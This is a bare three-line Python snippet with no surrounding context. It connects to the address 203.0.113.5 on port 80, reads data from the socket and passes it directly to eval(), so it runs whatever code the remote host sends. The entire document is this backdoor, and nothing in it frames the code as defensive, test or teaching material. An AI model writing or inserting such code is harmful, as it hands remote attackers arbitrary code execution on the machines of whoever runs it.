import socket
c = socket.create_connection(('203.0.113.5', 80))
eval(c.recv(9999))
